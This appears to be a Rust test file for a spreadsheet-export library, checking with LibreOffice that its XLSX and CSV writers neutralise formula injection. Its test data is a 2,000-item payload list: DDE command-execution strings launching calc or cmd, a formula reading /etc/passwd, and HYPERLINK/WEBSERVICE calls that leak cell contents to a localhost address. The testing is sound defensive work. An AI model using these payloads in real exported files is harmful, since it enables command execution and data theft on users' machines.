//! What a real spreadsheet program makes of our files. Needs LibreOffice (`apt-get install libreoffice-calc-nogui`):
//! `cargo test --test web reports::office -- --ignored --nocapture`.

use std::fs;
use std::path::Path;
use std::process::Command;

use balale::sheet::{Cell, Column, CsvWriter, Delimiter, Kind, Letterhead, Sheet, XlsxWriter};

/// What begins a formula somewhere, alone or behind what some programs skip.
const BEGINNINGS: [&str; 20] = [
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    " =",
    "\t=",
    "\r=",
    "\n=",
    "\u{feff}=",
    "\u{a0}=",
    "'=",
    "\"=",
    "==",
    "=+",
    "＝",
    "﹢",
    "\u{0}=",
    "{=",
];
const FORMULAS: [&str; 20] = [
    "1+1",
    "SUM(1;2)",
    "SUM(1,2)",
    "A1",
    "NOW()",
    "RAND()",
    "HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1;\"klik\")",
    "HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1,\"klik\")",
    "WEBSERVICE(\"http://127.0.0.1:9/\"&A1)",
    "cmd|' /C calc'!A0",
    "DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "DDE(\"cmd\",\"/C calc\",\"x\")",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "IMPORTXML(\"http://127.0.0.1:9/\",\"//a\")",
    "'file:///etc/passwd'#$passwd.A1",
    "INDIRECT(\"A1\")",
    "EXEC(\"calc.exe\")",
    "REGISTER.ID(\"kernel32\",\"WinExec\")",
    "{1,2}",
    "-2+3+cmd|' /C calc'!D2",
];
/// Behind a formula: quotes that end a cell, and what would begin another.
const ENDINGS: [&str; 5] = ["", "\n=1+1", "\";=1+1;\"", ",=1+1", "\t=1+1"];

fn payloads() -> Vec<String> {
    let all: Vec<String> = BEGINNINGS
        .iter()
        .flat_map(|beginning| FORMULAS.iter().map(move |formula| format!("{beginning}{formula}")))
        .flat_map(|text| ENDINGS.iter().map(move |ending| format!("{text}{ending}")))
        .collect();
    assert_eq!(all.len(), 2_000);
    all
}

/// Opens a file in LibreOffice and saves it as flat XML, in which a formula is an attribute.
fn opened(folder: &Path, name: &str) -> String {
    let done = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}/profile", folder.display()))
        .args(["--headless", "--convert-to", "fods", "--outdir"])
        .arg(folder.join("out"))
        .arg(folder.join(name))
        .output()
        .expect("LibreOffice is not installed: apt-get install libreoffice-calc-nogui");
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let out = folder.join("out").join(name).with_extension("fods");

    fs::read_to_string(out).unwrap()
}

fn formulas_in(xml: &str) -> usize {
    xml.matches("table:formula=").count()
}

#[test]
#[ignore = "needs LibreOffice"]
fn libreoffice_evaluates_nothing_that_somebody_typed() {
    let folder = tempfile::tempdir().unwrap();
    let columns = vec![
        Column::new("Nama", 30.0, Kind::Text),
        Column::new("NIK", 19.0, Kind::Code),
    ];
    let rows: Vec<[Cell; 2]> = payloads()
        .into_iter()
        .map(|text| [Cell::Text(text), Cell::Text("9907115203900003".to_owned())])
        .collect();
    let sheet = Sheet {
        letterhead: Letterhead {
            lines: vec!["=1+1".to_owned(), "@SUM(1;2)".to_owned()],
            ..Letterhead::default()
        },
        title: "=HYPERLINK(\"http://127.0.0.1:9/\")".to_owned(),
        filter_sentence: "+1+1".to_owned(),
        columns,
        ..Sheet::default()
    };

    let mut xlsx = XlsxWriter::new(&sheet, folder.path()).unwrap();
    for row in &rows {
        xlsx.push_row(row).unwrap();
    }
    xlsx.finish(&folder.path().join("berkas.xlsx")).unwrap();
    let read = opened(folder.path(), "berkas.xlsx");
    assert_eq!(formulas_in(&read), 0, "a formula in XLSX");
    assert_eq!(
        read.matches("9907115203900003").count(),
        rows.len(),
        "all rows were opened, each NIK with 16 digits"
    );

    for (name, delimiter) in [("koma.csv", Delimiter::Comma), ("titikkoma.csv", Delimiter::Semicolon)] {
        let mut csv = CsvWriter::new(Vec::new(), delimiter, &["Nama", "NIK"]).unwrap();
        for row in &rows {
            csv.push_row(row).unwrap();
        }
        fs::write(folder.path().join(name), csv.finish().unwrap()).unwrap();
        assert_eq!(formulas_in(&opened(folder.path(), name)), 0, "a formula in {name}");
    }
    println!("LibreOffice: cases {}, evaluated 0, in XLSX and in two CSV", rows.len());

    // That the look would see one.
    fs::write(folder.path().join("bukti.csv"), "Nama\n=1+1\n").unwrap();
    assert_eq!(formulas_in(&opened(folder.path(), "bukti.csv")), 1);
}
